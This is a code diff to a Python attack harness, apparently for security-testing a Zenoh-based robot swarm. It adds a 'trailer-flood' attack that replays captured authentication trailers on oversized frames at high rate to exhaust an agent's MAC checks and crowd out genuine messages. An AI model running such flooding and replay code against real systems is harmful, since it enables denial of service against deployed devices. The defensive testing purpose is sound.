@@ -10,6 +10,9 @@ usage: python attacker.py ATTACK ENDPOINT SWARM FIRST_TICK LAST_TICK [ARGS...]
     launcher   outsider: kill and restart events, clock-shaped frames on events, `done`-like
                and captured frames on clock, all unsealed or replayed (finding 1)
     flood      outsider: one captured delivery to agent 2 replayed as fast as it can (finding 4)
+    trailer-flood [FRAMES SIZE RATE]
+               outsider: 60 KB frames ending in a captured trailer, 10,000 a second, on agent 2's
+               radio and sensor keys (finding 5)
     sensors    outsider: agent 1's sealed sensor frames replayed to agent 4 (finding 2)
     stats      outsider: the agents' captured sealed stats answers, and junk, to every stats query (finding 3)
     stop KEYS  member: one stop clock sealed as netsim (finding 9)
@@ -52,6 +55,7 @@ class Attacker:
         self.lock = threading.Lock()
         self.sent: Counter[str] = Counter()
         self.pubs: dict[str, zenoh.Publisher] = {}
+        self.flood_pubs: dict[str, zenoh.Publisher] = {}
         self.sub = self.session.declare_subscriber(f"{self.keys.prefix}/**", self._capture,
                                                    allowed_origin=zenoh.Locality.REMOTE)
 
@@ -69,9 +73,11 @@ class Attacker:
             except wire.WireError:
                 pass
 
-    def put(self, key: str, data: bytes, label: str, attachment: bytes | None = None) -> None:
-        pub = self.pubs.get(key) or self.pubs.setdefault(key, self.session.declare_publisher(
-            key, **wire.publisher_options(zenoh)))
+    def put(self, key: str, data: bytes, label: str, attachment: bytes | None = None, flood: bool = False) -> None:
+        """`flood`: never wait for a slow receiver (Zenoh drops instead), as a flooder would."""
+        pubs = self.flood_pubs if flood else self.pubs
+        pub = pubs.get(key) or pubs.setdefault(key, self.session.declare_publisher(
+            key, **wire.publisher_options(zenoh, lossy=flood)))
         pub.put(data, attachment=attachment)
         self.sent[label] += 1
 
@@ -222,7 +228,42 @@ def sensors(at: Attacker, first: int, last: int) -> dict:
     return {"rounds": at.sent["4/misaddressed"]}
 
 
-ATTACKS = {"sensors": sensors, "stats": stats, "stop": stop, "launcher": launcher, "lockout": lockout, "flood": replay_flood}
+def trailer_flood(at: Attacker, first: int, last: int, frames: str = "50000", size: str = "60000",
+                  rate: str = "10000") -> dict:
+    """Finding 5, outsider: FRAMES frames of SIZE bytes, each ending in a trailer captured from
+    netsim (its sender, a known key id, a tag of another frame), at RATE a second, alternately on
+    agent 2's radio key (under a delivery number far ahead, so the cheap copy check passes it)
+    and its sensor key. Each used to cost a full MAC in agent 2's one loop and to push genuine
+    frames out of its inbox."""
+    from swarmloc.wire.auth import TRAILER
+
+    k = at.keys
+    at.wait_tick(first)
+    rx, sensors = k.radio_rx(2), k.sensors(2)
+    while (rx not in at.attachments or sensors not in at.captured) and at.tick < last:
+        time.sleep(0.01)
+    with at.lock:
+        trailer, att = at.captured[sensors][-TRAILER.size:], at.attachments[rx]
+    n_rx = wire.decode_delivery(att[:16])[0] + 10**6
+    body = bytes(int(size) - TRAILER.size)
+    ahead = wire.encode_delivery(n_rx, None) + bytes(16)
+    t0, n = time.monotonic(), 0
+    while n < int(frames) and at.tick < last:
+        due = min(int(frames), int((time.monotonic() - t0) * float(rate)))
+        while n < due:
+            if n % 2:
+                at.put(sensors, body + trailer, "2/sensors/auth-bad-tag", flood=True)
+            else:
+                at.put(rx, body + trailer, "2/rx/auth-bad-tag", ahead, flood=True)
+            n += 1
+        time.sleep(0.001)
+    rate_sent = n / (time.monotonic() - t0)
+    time.sleep(1.0)  # what is still queued in this session goes out before it closes
+    return {"frames": n, "rate": rate_sent}
+
+
+ATTACKS = {"sensors": sensors, "stats": stats, "stop": stop, "launcher": launcher, "lockout": lockout, "flood": replay_flood,
+           "trailer-flood": trailer_flood}
 
 
 def member_lies(at: Attacker, first: int, last: int, keys: str, lie: str, size: str = "0", limit: str = "1000000",
